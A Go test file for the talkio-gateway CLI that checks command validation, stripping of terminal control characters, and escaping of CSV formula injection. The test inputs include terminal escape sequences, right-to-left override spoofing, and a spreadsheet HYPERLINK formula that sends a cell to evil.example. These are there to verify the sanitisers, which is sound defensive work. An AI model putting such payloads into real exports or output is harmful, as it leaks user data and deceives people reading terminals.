package cli

import (
	"bytes"
	"strings"
	"testing"

	"talkio-gateway/talkio/talkiotest"
)

// CheckCommand refuses unknown words and a missing subcommand without a client (main calls it before
// loading the configuration), and passes known commands through untouched.
func TestCheckCommand(t *testing.T) {
	tests := []struct {
		args       []string
		want       int
		wantStderr string
	}{
		{[]string{"users", "frobnicate"}, ExitUsage, `error: unknown command "frobnicate" in "talkio-gateway users"; run "talkio-gateway users -h" for the list` + "\n"},
		{[]string{"frobnicate"}, ExitUsage, `error: unknown command "frobnicate" in "talkio-gateway"; run "talkio-gateway -h" for the list` + "\n"},
		{[]string{"usage", "reprot", "--month", "2026-01"}, ExitUsage, `unknown command "reprot" in "talkio-gateway usage"`},
		{[]string{"users"}, ExitUsage, "error: talkio-gateway users needs a subcommand"},
		{[]string{"users", "list", "--bogus"}, ExitOK, ""}, // flags are Run's business, after the configuration
		{[]string{"users", "-h"}, ExitOK, ""},
		{[]string{"sweep", "--apply"}, ExitOK, ""},
		{[]string{"conversations", "u1"}, ExitOK, ""},
		{[]string{"users", "\u009b31mred"}, ExitUsage, `unknown command "\u009b31mred"`},
	}
	for _, tt := range tests {
		var stderr bytes.Buffer
		if got := CheckCommand(&stderr, tt.args); got != tt.want {
			t.Errorf("%q: exit %d, want %d; stderr:\n%s", tt.args, got, tt.want, stderr.String())
		}
		if tt.wantStderr == "" && stderr.Len() != 0 || !strings.Contains(stderr.String(), tt.wantStderr) {
			t.Errorf("%q: stderr %q, want %q", tt.args, stderr.String(), tt.wantStderr)
		}
		if strings.ContainsRune(stderr.String(), '\u009b') {
			t.Errorf("%q: stderr holds a raw C1 control", tt.args)
		}
	}
}

func TestTermSafe(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Ada Lovelace", "Ada Lovelace"},
		{"tab\there\nnew\rline", "tab here new line"},
		{"esc\x1b[31mred\x7f", "esc [31mred "},
		{"csi\u009b31mred\u0085nel\u0080\u009f", "csi 31mred nel  "},
		{"user\u202eexe.txt", "userexe.txt"},
		{"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061cx", "x"},
		{"Zoë 日本 \u00a0ok", "Zoë 日本 \u00a0ok"}, // U+00A0 is not a control
	}
	for _, tt := range tests {
		if got := termSafe(tt.in); got != tt.want {
			t.Errorf("termSafe(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// Table output (users list) goes through the sanitiser: a hostile user name cannot drive the terminal.
func TestTableStripsControls(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	h.addUser(talkiotest.User{ID: "u1", UserName: "Mallory\u009b2J\u202eevil\x1b]0;title\x07", Email: "m@example.com"})
	h.mustRun(ExitOK, "users", "list")
	out := h.stdout.String()
	for _, bad := range []string{"\u009b", "\u202e", "\x1b", "\x07"} {
		if strings.Contains(out, bad) {
			t.Errorf("users list output holds %q:\n%q", bad, out)
		}
	}
	if !strings.Contains(out, "Mallory 2Jevil ]0;title ") {
		t.Errorf("the name is not shown readable:\n%s", out)
	}
}

func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"+1+1", "'+1+1"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"-2+3", "'-2+3"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"Ada", "Ada"},
		{"", ""},
		{"a=b", "a=b"},
		{"12.50", "12.50"},
	}
	for _, tt := range tests {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
